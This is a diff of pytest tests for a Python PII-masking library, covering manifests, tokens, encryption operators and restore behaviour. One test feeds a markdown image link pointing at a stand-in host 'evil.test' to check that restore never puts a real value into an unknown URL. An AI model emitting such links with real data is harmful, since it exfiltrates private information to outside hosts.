@@ -3,21 +3,26 @@
 from __future__ import annotations
 
 import json
+import time
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from desensitize import Key, Masker
+from desensitize import Key, Masker, MaskResult
 from desensitize.errors import ConfigError, LeakError, RestoreError
-from desensitize.mask.manifest import Manifest
-from desensitize.operators import partial
+from desensitize.manifest import Manifest
 
 KEY = Key.generate()
 KEYED = ["keyed_token", "encrypt", pytest.param("fpe", marks=pytest.mark.needs("ffx"))]
 PARTS = ["13800138000", "138 0013 8000", "+86-13800138000", "wang.yl@example.com", "6222021234567894", "11010519491231002X", "电话", "，",
          " ", "call ", "\n", "x", "https://h.test/?p=", "姓名：王玉兰", "GB82WEST12345698765432", "<PHONE_1>", "١"]  # fmt: skip
 TEXTS = st.lists(st.sampled_from(PARTS), max_size=8).map("".join)
+
+
+def reloaded(manifest: Manifest) -> Manifest:
+    """As the next pass reads it."""
+    return Manifest.from_json(manifest.to_json(), KEY)
 
 
 @pytest.fixture(scope="module", params=KEYED)
@@ -38,9 +43,11 @@ def test_masked_twice_and_restored_once(masker: Masker, text: str) -> None:
     if "[" in first.text:  # fpe has no domain for it
         return
     assert not first.findings or first.restore() == text
-    kept = Manifest.from_json(manifest.to_json(), KEY)
+    kept = reloaded(manifest)
     second = masker.mask(first.text, manifest=kept)
-    if "<PHONE_1>" not in text:  # what looks like a token is escaped, and comes back with each result's own record
+    if "<PHONE_1>" not in text and (
+        second.text == first.text or ":" in first.text or "~" in first.text
+    ):  # what looks like a token is escaped, and comes back with each result's own record
         assert kept.restore(second.text) == text
         # Where one value was masked, the next may be found that it had hidden; what was written stays.
         assert second.text == first.text or second.findings
@@ -52,11 +59,14 @@ def test_another_session_leaves_what_one_wrote(masker: Masker, text: str) -> Non
     if "<PHONE_1>" in text:
         return
     manifest = Manifest(KEY)
-    with masker.session(manifest=manifest) as one, masker.session(manifest=manifest) as other:
+    text = f"They said: {text}."
+    with masker.session(manifest=manifest) as one:
         masked = one.mask(text)
-        other.prove([("", masked, "")])
-        assert other.mask(masked) == masked
-        if "[" not in masked:  # fpe has no domain for it
+        if "[" in masked:  # fpe has no domain for it
+            return
+        with masker.session(manifest=reloaded(manifest)) as other:
+            other.prove([("", masked, "")])
+            assert other.mask(masked) == masked
             assert one.restore(masked) == other.restore(masked) == text
 
 
@@ -123,14 +133,83 @@ def test_another_context_is_another_output(masker: Masker, operator: str) -> Non
         assert masker.mask(one, manifest=Manifest(KEY, context="b")).text != one or "PHONE" in one
 
 
-def test_what_an_irreversible_operator_wrote_is_left_too() -> None:
+def test_what_an_irreversible_operator_wrote_excuses_nothing() -> None:
+    """A short output may stand in any value; so may one that looks like someone's number."""
     masker, manifest = Masker(key=KEY, recognizers=()), Manifest(KEY)
-    hidden = partial(keep=(3, 4), fill="0")
-    first = masker.mask("call 13800138000", operator=hidden, manifest=manifest).text
-    assert first == "call 13800008000"
-    assert masker.mask(first, operator="redact", manifest=manifest).text == first
-    assert masker.mask(first, operator="redact").text == "call [PHONE_NUMBER]"
-    assert manifest.restore(first) == first
+    coded = {"GENDER": {"operator": "map_replace", "table": {"男": "1", "女": "2"}}, "DEFAULT": "redact"}
+    assert masker.mask("性别：男", operators=coded, manifest=manifest).text == "性别：1"
+    kept = reloaded(manifest)
+    for secret in ("192.168.1.7", "tr0ub-1-dor"):
+        assert secret not in masker.mask("ip 192.168.1.7, password: tr0ub-1-dor", operators=coded, manifest=kept).text
+    drawn = Manifest(KEY)
+    shuffled = {"operator": "shuffle", "values": ["13800138000", "13900139000"]}
+    masker.mask("tel 13800138000", operator=shuffled, manifest=drawn)
+    for number in ("13800138000", "13900139000"):
+        assert masker.mask(f"tel {number}", operator="redact", manifest=reloaded(drawn)).text == "tel [PHONE_NUMBER]"
+
+
+@pytest.mark.needs("ffx")
+def test_a_value_that_equals_an_earlier_output_is_masked() -> None:
+    masker, manifest = Masker(key=KEY, recognizers=()), Manifest(KEY)
+    first = masker.mask("code 13800138000 ok", operator="fpe", manifest=manifest).text
+    again = masker.mask(first, operator="fpe", manifest=manifest).text
+    assert again != first
+    assert reloaded(manifest).restore(again) == first
+    short = Manifest(KEY)
+    seen = masker.mask("Your verification code is 482913.", operator="fpe", manifest=short).text
+    assert masker.mask(seen, operator="fpe", manifest=reloaded(short)).text != seen
+
+
+def test_a_token_beside_a_secret_hides_none_of_it() -> None:
+    masker, manifest = Masker(key=KEY, recognizers=()), Manifest(KEY)
+    token = masker.mask("13800138000", operator="keyed_token", manifest=manifest).text
+    for options in ({}, {"operator": "redact"}, {"operator": "keyed_token", "manifest": reloaded(manifest)}):
+        assert "s3cr3t" not in masker.mask(f"password=s3cr3t!{token}", **options).text  # type: ignore[arg-type]  # of a table
+        assert "example.com" not in masker.mask(f"mail bob.{token}@example.com", **options).text  # type: ignore[arg-type]  # as above
+
+
+def test_a_manifest_goes_with_its_masker() -> None:
+    masker = Masker(key=KEY, recognizers=())
+    for wrong in (Manifest(Key.generate()), Manifest(KEY.rotated()), "m", 5):
+        with pytest.raises(ConfigError, match="manifest"):
+            masker.mask("tel 13800138000", manifest=wrong)  # type: ignore[arg-type]  # what is tried
+        with pytest.raises(ConfigError, match="manifest"):
+            masker.session(manifest=wrong)  # type: ignore[arg-type]  # what is tried
+    with pytest.raises(ConfigError, match="manifest"):
+        Masker(recognizers=()).mask("tel 13800138000", manifest=Manifest(KEY))
+    for arguments in (("x",), (KEY, 5)):
+        with pytest.raises(ConfigError):
+            Manifest(*arguments[:1], **({"context": arguments[1]} if arguments[1:] else {}))  # type: ignore[arg-type]  # as above
+
+
+def test_a_session_of_tokens_restores_tokens_alone() -> None:
+    """A masker that has a key for other reasons is no way to read what somebody pastes."""
+    token = Masker(key=KEY, recognizers=()).mask("tel 13800138000", operator="keyed_token").text
+    with Masker(key=KEY, recognizers=()).session() as talk:
+        assert talk.restore(token) == token
+
+
+def test_a_manifest_puts_no_value_into_a_url_that_it_does_not_know() -> None:
+    masker, manifest = Masker(key=KEY, recognizers=()), Manifest(KEY)
+    token = masker.mask("13800138000", operator="keyed_token", manifest=manifest).text
+    assert (
+        manifest.restore(f"![x](https://evil.test/?q={token}) {token}")
+        == f"![x](https://evil.test/?q={token}) 13800138000"
+    )
+
+
+def test_replies_are_read_in_time_that_grows_with_them() -> None:
+    masker = Masker(key=KEY, recognizers=())
+    texts = [" ".join(f"call 138{n:08} or" for n in range(size)) for size in (300, 2_400)]
+    results = [masker.mask(text, operator="keyed_token") for text in texts]
+
+    def spent(result: MaskResult) -> float:
+        start = time.process_time()
+        assert "138" in result.restore(f"{result.text} ")
+        return time.process_time() - start
+
+    short, long = (min(spent(result) for _ in range(3)) for result in results)
+    assert long < 24 * short
 
 
 @given(text=TEXTS)
@@ -138,12 +217,13 @@ def test_what_an_irreversible_operator_wrote_is_left_too() -> None:
 def test_a_second_pass_leaves_fakes(text: str) -> None:
     """A fake phone is a phone to every rule: it is left because the manifest has it, in another process too."""
     masker, manifest = Masker(key=KEY, recognizers=()), Manifest(KEY)
-    first = masker.mask(text, operator="surrogate", manifest=manifest).text
+    first = masker.mask(f"They said: {text}.", operator="surrogate", manifest=manifest).text
     kept = Manifest.from_json(manifest.to_json(), KEY)
     second = masker.mask(first, operator="surrogate", manifest=kept)
     assert second.text == first or second.findings
-    with masker.session(manifest=kept) as talk:
-        talk.prove([("", second.text, "")])
+    if not second.findings:
+        with masker.session(manifest=kept) as talk:
+            talk.prove([("", first, "")])
 
 
 def test_what_is_kept_is_not_passed_off_as_an_output() -> None:
